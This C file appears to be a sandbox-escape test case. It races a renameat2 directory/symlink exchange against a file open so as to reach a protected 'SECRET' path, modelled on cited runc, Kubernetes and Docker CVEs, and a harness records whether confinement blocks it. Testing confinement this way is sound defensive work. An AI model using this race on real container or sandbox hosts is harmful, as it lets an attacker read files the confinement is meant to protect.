// Route: exchanges a directory and a link to the outside while another thread opens a file beneath it
// Known from: CVE-2021-30465 (runc), CVE-2021-25741 (Kubernetes), CVE-2018-15664 (Docker)
// Refused: ENOENT, EACCES
// Twin: the same thread opens the file of its own
// Unconfined: works
#include "attempt.h"
#include <pthread.h>
#include <time.h>

// Rounds count only while both threads get to run.
static volatile int over, turns;

static void *exchange(void *unused) {
  char *a = at("WORK", "/folder"), *b = at("WORK", "/link");
  for (; !over; turns++) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
  return unused;
}

int main(void) {
  pthread_t thread;
  int ours = -1, theirs = -1, error = ENOENT;
  mkdir(at("WORK", "/folder"), 0755);
  close(open(at("WORK", "/folder/own"), O_WRONLY | O_CREAT, 0644));
  symlink(at("SECRET", ""), at("WORK", "/link"));
  pthread_create(&thread, NULL, exchange, NULL);
  char *own = at("WORK", "/folder/own"), *secret = at("WORK", "/folder/file");
  for (int i = 0; (i < 20000 || turns < 20000) && (theirs == -1 || ours == -1); i++) {
    if (theirs == -1 && (theirs = open(secret, O_RDONLY)) == -1 && errno == EACCES) error = errno;
    if (ours == -1) ours = open(own, O_RDONLY);
  }
  over = 1;
  pthread_join(thread, NULL);
  errno = error;
  attempt(theirs);
  twin(ours);
}
